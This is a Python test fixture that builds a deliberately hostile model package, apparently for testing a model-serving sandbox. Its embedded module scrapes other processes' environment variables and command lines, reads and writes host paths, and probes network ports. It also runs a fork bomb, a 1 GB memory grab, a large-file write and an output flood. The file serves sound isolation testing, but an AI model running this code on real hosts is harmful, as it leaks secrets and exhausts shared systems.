"""A hostile `python`-framework model package: it tries to escape its sandbox and exhaust the host."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Mapping

MODULE = r"""
import json, os, sys, sysconfig, time

TARGETS = json.loads(%(targets)r)
MARKER = %(marker)r
NAME = %(name)r


def read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(400).decode("utf-8", "replace") or "<empty>"
    except Exception:
        return None


def listing(path):
    try:
        return sorted(os.listdir(path))[:50]
    except Exception:
        return None


def write(path):
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
        return True
    except Exception:
        return False


def escape():
    environs = {}
    for pid in [name for name in listing("/proc") or [] if name.isdigit()] + [str(TARGETS["agent_pid"])]:
        text = read(f"/proc/{pid}/environ") or ""
        if MARKER in text or "CANOPY_" in text:
            environs[pid] = text[:200]
    processes = {}
    for pid in [name for name in listing("/proc") or [] if name.isdigit()]:
        processes[pid] = (read(f"/proc/{pid}/cmdline") or "").replace("\0", " ")[:200]
    here = os.path.dirname(os.path.abspath(__file__))
    write(f"/tmp/{NAME}-was-here")
    return {
        "uid": os.getuid(),
        "tmp": listing("/tmp"),
        "reads": {path: read(path) for path in TARGETS["files"]},
        "listings": {path: listing(path) for path in TARGETS["dirs"]},
        "writes": {
            "own package": write(os.path.join(here, "pwned.txt")),
            "own venv": write(os.path.join(sysconfig.get_paths()["purelib"], "pwned.py")),
            **{path: write(os.path.join(path, "pwned.txt")) for path in TARGETS["dirs"]},
        },
        "environs": environs,
        "processes": processes,
    }


def fork_bomb():
    children, error = [], ""
    for _ in range(1000):
        try:
            pid = os.fork()
        except OSError as exc:
            error = str(exc)
            break
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
    return {"forked": len(children), "error": error}


def allocate():
    pid = os.fork()
    if pid == 0:
        try:
            block = b"x" * (1024 * 1024 * 1024)
            os._exit(0 if block else 1)
        except MemoryError:
            os._exit(3)
    _, status = os.waitpid(pid, 0)
    return {"allocated": os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0, "status": status}


def big_file():
    path, written, error = "/tmp/canopy-sandbox-big", 0, ""
    try:
        with open(path, "wb") as handle:
            for _ in range(100):
                handle.write(b"x" * (1024 * 1024))
                handle.flush()
                written += 1024 * 1024
    except OSError as exc:
        error = str(exc)
    finally:
        if os.path.exists(path):
            os.remove(path)
    return {"written": written, "error": error}


def chatty():
    line = "chatter " * 16 + "\n"
    for _ in range(4 * 1024 * 1024 // len(line)):
        sys.stdout.write(line)
    sys.stdout.flush()
    return {"printed": 4 * 1024 * 1024}


def connect(targets):
    import socket

    reached = {}
    for target in targets.split(","):
        host, port = target.rsplit(":", 1)
        try:
            socket.create_connection((host, int(port)), timeout=2).close()
            reached[target] = True
        except OSError:
            reached[target] = False
    return reached


class Hostile:
    def load(self, path):
        self.at_load = escape()

    def predict(self, inputs):
        attack = inputs["attack"]
        if attack.startswith("connect:"):
            return {"report": connect(attack[len("connect:"):])}
        if attack == "escape":
            return {"report": {"load": self.at_load, "predict": escape()}}
        attacks = {"fork": fork_bomb, "memory": allocate, "file": big_file, "chatty": chatty}
        return {"report": attacks[attack]()}
"""


def hostile_package(name: str, targets: Mapping[str, object], marker: str) -> bytes:
    """The hostile package zip, with the host paths it goes after written into its code."""
    manifest = {
        "name": name,
        "version": "1.0.0",
        "framework": "python",
        "model_class": "hostile.py:Hostile",
        "inputs": [{"name": "attack", "type": "string"}],
        "outputs": [{"name": "report", "type": "object"}],
        "requirements": [],
        "python": "3.11",
        "resources": {"cpu": 0.5, "memory_mb": 256},
    }
    source = MODULE % {"targets": json.dumps(dict(targets)), "marker": marker, "name": name}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("model.json", json.dumps(manifest))
        archive.writestr("hostile.py", source)
    return buffer.getvalue()
